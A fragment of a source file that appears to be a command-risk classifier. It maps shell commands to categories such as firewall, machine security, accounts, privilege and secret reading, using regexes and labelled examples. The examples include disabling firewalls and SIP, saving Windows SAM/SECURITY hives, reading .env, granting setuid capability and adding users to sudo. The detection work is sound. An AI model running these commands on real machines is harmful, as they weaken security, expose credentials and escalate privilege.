  sysctl: { reader: 'sysctl', examples: { 'sysctl -a': '', 'sysctl -w a=1': 'machine settings' } },
  'iptables-restore ip6tables-restore iptables-legacy iptables ip6tables nft ufw firewall-cmd pfctl ipset ebtables': {
    reader: 'firewall',
    examples: { 'iptables -L': '', 'ufw disable': 'machine firewall' },
  },
  'hostname date': {
    operands: 'value',
    valued: '-d -f -r -R --date --file --reference',
    options: { reads: '-f --file' },
    verbs: [
      [/^(?!.*(?:^|\s)-[Iv](?:\s|$)).*(?:^|\s)(?:-s|--set)\b/, 'machine settings'],
      [/^(?!-)[\w.-]+$/, 'machine settings likely'],
    ],
    examples: { hostname: '', 'date +%s': '', 'date -s 2000-01-01': 'machine settings', 'date -f .env': 'read secret' },
  },
  'fuser xkill': {
    oneDash: true,
    verbs: [
      [/\d\/(?:tcp|udp)\b/, null],
      [/(?:^|\s)-(?:\w*k\w*|all)\b/, 'machine process'],
    ],
    examples: { 'fuser -v .': '', 'fuser -k 3000/tcp': '', 'fuser -k /home': 'machine process' },
  },
  'stress stress-ng memtester': {
    verbs: [[/(?:^|\s)(?:--(?:cpu|vm|hdd|fork|all|class)|-[cmd])\b/, 'machine process likely']],
    examples: { 'stress-ng --version': '', 'stress-ng --cpu 0': 'machine process' },
  },
  'schtasks sc sc.exe at.exe': {
    verbs: [
      [/\/(?:query|\?)|^(?:query|qc)\b/i, null],
      [/\/(?:create|change|run|delete)\b|^(?:create|config|delete|stop)\b/i, 'machine startup'],
    ],
    examples: { 'schtasks /query': '', 'schtasks /create /tn x /tr x.exe': 'machine startup' },
  },
  'reg regedit regini': {
    verbs: [
      [/^(?:save|export)\s+\S*\\(?:SAM|SECURITY|SYSTEM)(?:\s|$)/i, 'cloud secret'],
      [/^(?:query|export|compare|save)\b/i, null],
      [/^(?:add|delete|import|restore|load)\b|^\/s\b/i, 'machine startup'],
    ],
    examples: { 'reg query HKCU': '', 'reg add HKCU/Run /v x': 'machine startup' },
  },
  pm2: {
    reader: 'pm2',
    verbs: [
      [/^(?:startup|unstartup|save|install|set)\b/, 'machine startup'],
      [/^(?:delete|del|kill|stop) all\b|^kill\b/, 'service stop'],
    ],
    examples: { 'pm2 list': '', 'pm2 startup': 'machine startup', 'pm2 delete all': 'service stop' },
  },
  'setenforce csrutil spctl tccutil nvram bless fdesetup auditctl aa-disable aa-teardown aa-complain aa-remove-unknown apparmor_parser semanage setsebool modprobe insmod rmmod kextload kextunload rfkill':
    {
      verbs: [
        [/^(?:status|--status|-l|--list|-p|list)\b|--show-depends\b|(?:^|\s)(?:-n|--dry-run)(?:\s|$)/, null],
        [/(?:)/, 'machine security'],
      ],
      examples: { 'csrutil status': '', 'csrutil disable': 'machine security' },
    },
  'usermod useradd userdel adduser deluser groupadd groupmod groupdel gpasswd chpasswd chsh chfn vipw visudo sysadminctl dseditgroup chage newusers':
    {
      verbs: [
        [/^. -list|^(?:\. )?-?read\b|(?:^|\s)(?:-[Sl]|--(?:status|list|check))(?:\s|$)/, null],
        [/(?:)/, 'machine accounts'],
      ],
      examples: { 'usermod -aG sudo dev': 'machine accounts' },
    },
  'passwd dscl': {
    oneDash: true,
    verbs: [
      [/(?:^|\s)(?:-S|--status|-?(?:list|read|search|readall))(?:\s|$)/, null],
      [/(?:)/, 'machine accounts'],
    ],
    examples: { 'passwd -S': '', 'dscl . -list /Users': '', 'passwd -l dev': 'machine accounts' },
  },
  setcap: {
    operands: 'value mode',
    does: 'machine privilege',
    examples: { 'setcap cap_setuid+ep ./x': 'machine privilege' },
  },
  'apt apt-get aptitude dnf yum zypper pacman apk brew port snap flatpak emerge xbps-install xbps-remove nix-env dpkg rpm pkg winget choco scoop installer softwareupdate':
    { reader: 'packages', examples: { 'apt list --installed': '', 'apt-get purge -y python3': 'machine uninstall' } },
  'update-alternatives alternatives dpkg-reconfigure ldconfig depmod update-grub grub-install efibootmgr update-initramfs dracut grub-mkconfig':
    {
      verbs: [
        [/--(?:display|list|query|get-selections|print)\b|^-[pv]+$|^-p$/, null],
        [/(?:)/, 'machine settings'],
      ],
      examples: { 'update-alternatives --list java': '', 'grub-install /dev/sda': 'machine settings' },
    },
  'hostnamectl timedatectl localectl networksetup systemsetup scutil ip ifconfig route tc ethtool iw resolvectl defaults pmset':
    {
      oneDash: true,
      verbs: CONFIGURING,
      examples: {
        'ip addr': '',
        'ip -6 route': '',
        'iw phy': '',
        'ip link set eth0 down': 'machine settings',
      },
    },
})
